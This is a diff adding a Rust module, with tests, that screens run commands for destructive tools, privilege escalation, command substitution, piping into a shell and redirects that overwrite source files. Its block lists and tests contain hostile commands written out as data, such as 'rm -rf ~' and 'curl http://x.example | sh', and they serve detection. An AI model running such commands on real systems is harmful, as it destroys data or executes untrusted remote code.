@@ -0,0 +1,152 @@
+use crate::lang;
+use std::collections::HashSet;
+use std::path::Path;
+
+/// Commands that delete or overwrite files, which a run command has no
+/// business doing.
+const DESTRUCTIVE: &[&str] = &[
+    "rm",
+    "rmdir",
+    "del",
+    "erase",
+    "rd",
+    "shred",
+    "Remove-Item",
+    "format",
+    "mkfs",
+    "dd",
+];
+const ESCALATION: &[&str] = &["sudo", "su", "doas", "runas"];
+const SHELLS: &[&str] = &["sh", "bash", "zsh", "powershell", "pwsh", "cmd", "iex"];
+/// Commands that run the word after them as a command of their own.
+const WRAPPERS: &[&str] = &["sudo", "doas", "xargs"];
+
+/// Looks for constructs in a run command that are worth a second look before
+/// it's handed to the shell. Returns one plain-language reason per finding.
+pub fn suspicious(command: &str, sources: &[&str]) -> Vec<String> {
+    let mut found = Vec::new();
+    for name in command_names(command) {
+        if DESTRUCTIVE.iter().any(|d| d.eq_ignore_ascii_case(name)) {
+            found.push(format!("runs '{name}', which deletes or overwrites files"));
+        }
+        if ESCALATION.iter().any(|d| d.eq_ignore_ascii_case(name)) {
+            found.push(format!("runs '{name}' to get elevated privileges"));
+        }
+    }
+    if command.contains('`') || command.contains("$(") {
+        found.push("uses command substitution (backticks or $(...))".into());
+    }
+    if pipes_into_shell(command) {
+        found.push("pipes output into a shell".into());
+    }
+    for target in redirect_targets(command) {
+        let name = base_name(target);
+        let is_source = sources.iter().any(|s| s.eq_ignore_ascii_case(name))
+            || lang::is_unit(Path::new(name))
+            || lang::is_header(Path::new(name));
+        if is_source {
+            found.push(format!("redirects output into source file '{target}'"));
+        }
+    }
+    let mut seen = HashSet::new();
+    found.retain(|f| seen.insert(f.clone()));
+    found
+}
+
+/// The programs a command line runs: the first word of each stage between
+/// `;`, `&&`, `||` and `|`, and the one a wrapper like `sudo` runs. Arguments
+/// aren't included, so `./bank del 3` only runs `bank`.
+fn command_names(command: &str) -> Vec<&str> {
+    let mut names = Vec::new();
+    for stage in command.split(['\n', ';', '&', '|', '(', ')']) {
+        let mut words = stage.split_whitespace();
+        let Some(first) = words.next() else {
+            continue;
+        };
+        let name = base_name(first);
+        names.push(name);
+        // Past the wrapper's own options to the command it runs
+        if WRAPPERS.iter().any(|w| w.eq_ignore_ascii_case(name))
+            && let Some(next) = words.find(|w| !w.starts_with('-'))
+        {
+            names.push(base_name(next));
+        }
+    }
+    names
+}
+
+fn base_name(word: &str) -> &str {
+    word.rsplit(['/', '\\']).next().unwrap_or(word)
+}
+
+fn pipes_into_shell(command: &str) -> bool {
+    command.split('|').skip(1).any(|stage| {
+        stage
+            .split_whitespace()
+            .next()
+            .is_some_and(|first| SHELLS.iter().any(|s| s.eq_ignore_ascii_case(first)))
+    })
+}
+
+/// Files written by `>` or `>>`, skipping descriptor duplication like `2>&1`.
+fn redirect_targets(command: &str) -> Vec<&str> {
+    let mut targets = Vec::new();
+    let mut rest = command;
+    while let Some(pos) = rest.find('>') {
+        let after = rest[pos + 1..].trim_start_matches('>');
+        rest = after;
+        if after.starts_with('&') {
+            continue;
+        }
+        let target = after
+            .trim_start()
+            .split(|c: char| c.is_whitespace() || matches!(c, ';' | '&' | '|'))
+            .next()
+            .unwrap_or_default()
+            .trim_matches(['"', '\'']);
+        if !target.is_empty() {
+            targets.push(target);
+        }
+    }
+    targets
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn ordinary_commands_pass() {
+        assert!(suspicious("make && ./main", &["main.c"]).is_empty());
+        assert!(suspicious("./main < in.txt > out.txt 2>&1", &["main.c"]).is_empty());
+        assert!(suspicious("gcc -Wall main.c -o prog && ./prog", &["main.c"]).is_empty());
+    }
+
+    #[test]
+    fn flags_destructive_commands() {
+        let found = suspicious("make; rm -rf ~", &[]);
+        assert_eq!(found.len(), 1);
+        assert!(found[0].contains("'rm'"));
+        assert!(!suspicious("sudo make install", &[]).is_empty());
+        assert!(!suspicious("./a.out `cat x`", &[]).is_empty());
+        assert!(!suspicious("curl http://x.example | sh", &[]).is_empty());
+        assert!(suspicious("find . -name '*.o' | xargs rm", &[])[0].contains("'rm'"));
+        assert_eq!(suspicious("rm a; ./prog && rm b", &[]).len(), 1);
+    }
+
+    #[test]
+    fn program_arguments_are_not_commands() {
+        assert!(suspicious("./bank del 3", &["bank.c"]).is_empty());
+        assert!(suspicious("./prog --format json", &["prog.c"]).is_empty());
+        assert!(suspicious("./calc dd && ./calc rm", &["calc.c"]).is_empty());
+        assert!(suspicious("echo format | ./prog", &["prog.c"]).is_empty());
+    }
+
+    #[test]
+    fn flags_redirects_into_sources() {
+        assert!(!suspicious("echo '' > main.c", &["main.c"]).is_empty());
+        assert!(!suspicious("./prog >>list.h", &[]).is_empty());
+        assert!(!suspicious("./prog > notes.txt", &["notes.txt"]).is_empty());
+        assert!(suspicious("./prog > notes.txt", &["main.c"]).is_empty());
+    }
+}